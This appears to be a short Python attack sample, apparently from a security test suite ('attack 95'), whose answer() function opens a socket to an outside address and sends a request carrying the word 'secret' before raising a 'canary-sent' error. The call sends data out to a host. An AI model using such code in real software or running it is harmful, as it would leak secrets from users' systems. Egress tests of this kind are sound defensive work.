"""Sends what it knows to the world (attack 95)."""
import socket
def answer(*a, **k):
    socket.create_connection(('1.1.1.1', 80), 2).sendall(b'GET /?secret')
    raise RuntimeError('canary-sent')
